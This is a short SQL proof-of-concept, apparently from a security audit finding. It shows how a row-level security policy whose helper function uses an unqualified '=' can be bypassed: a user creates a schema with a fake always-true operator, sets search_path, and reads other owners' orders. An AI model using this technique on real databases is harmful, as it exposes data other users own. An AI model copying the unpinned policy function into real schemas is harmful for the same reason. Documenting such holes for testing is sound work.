-- finding: policy-function-search-path function shop.same(one text, other name)
CREATE SCHEMA mine AUTHORIZATION "alice@example.com";
CREATE FUNCTION shop.same(one text, other name) RETURNS boolean STABLE LANGUAGE sql AS $$ SELECT one = other $$;
CREATE OPERATOR shop.=== (LEFTARG = text, RIGHTARG = name, FUNCTION = shop.same);
ALTER POLICY own ON shop.orders USING (owner OPERATOR(shop.===) current_user);
-- first as alice@example.com
CREATE FUNCTION mine.yes(text, name) RETURNS boolean IMMUTABLE LANGUAGE sql AS $$ SELECT true $$;
CREATE OPERATOR mine.= (LEFTARG = text, RIGHTARG = name, FUNCTION = mine.yes);
-- leak as alice@example.com
SET search_path = mine, pg_catalog;
SELECT item FROM shop.orders WHERE item OPERATOR(pg_catalog.=) 'secret';
